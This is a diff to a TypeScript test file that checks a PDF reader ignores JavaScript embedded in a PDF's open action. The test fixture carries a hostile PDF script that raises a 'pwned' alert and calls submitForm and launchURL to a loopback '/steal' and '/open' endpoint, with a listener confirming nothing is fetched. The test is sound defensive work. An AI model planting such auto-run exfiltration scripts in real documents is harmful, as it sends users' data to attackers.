@@ -1,4 +1,6 @@
 import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { getPriority, tmpdir } from 'node:os';
 import path from 'node:path';
 import sharp from 'sharp';
@@ -97,13 +99,28 @@ describe('ReaderPool: proof files read on a worker thread', () => {
       expect(reading.facts.models.map((m) => m.model)).toEqual(['QCN8019B']);
     });
 
-    test('a PDF that runs JavaScript on open is read as text (its script ignored)', async () => {
-      const pdf = makePdf([['Order Date: 5/6/2026', 'Q-See QC908 DVR']], {
-        openActionJs: 'app.alert("pwned"); this.submitForm("http://127.0.0.1:1/steal");',
+    test('a PDF that runs JavaScript on open is read as text: its script never runs, nothing is fetched', async () => {
+      // a loopback listener the script would reach: it must hear nothing
+      const requests: string[] = [];
+      const listener = createServer((req, res) => {
+        requests.push(req.url ?? '');
+        res.end();
       });
-      const reading = read(await reader.read(pdf));
-      expect(reading.facts.purchaseDate?.date).toBe('2026-05-06');
-      expect(reading.text).not.toContain('pwned');
+      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+      const { port } = listener.address() as AddressInfo;
+      try {
+        const pdf = makePdf([['Order Date: 5/6/2026', 'Q-See QC908 DVR']], {
+          openActionJs: `app.alert("pwned"); this.submitForm("http://127.0.0.1:${port}/steal"); app.launchURL("http://127.0.0.1:${port}/open");`,
+        });
+        const reading = read(await reader.read(pdf));
+        expect(reading.facts.purchaseDate?.date).toBe('2026-05-06');
+        expect(reading.text).not.toContain('pwned');
+        // the reading is over and answered; a request it had sent would have been heard by now on loopback
+        await new Promise((resolve) => setImmediate(resolve));
+        expect(requests).toEqual([]);
+      } finally {
+        await new Promise((resolve) => listener.close(resolve));
+      }
     });
   });
 
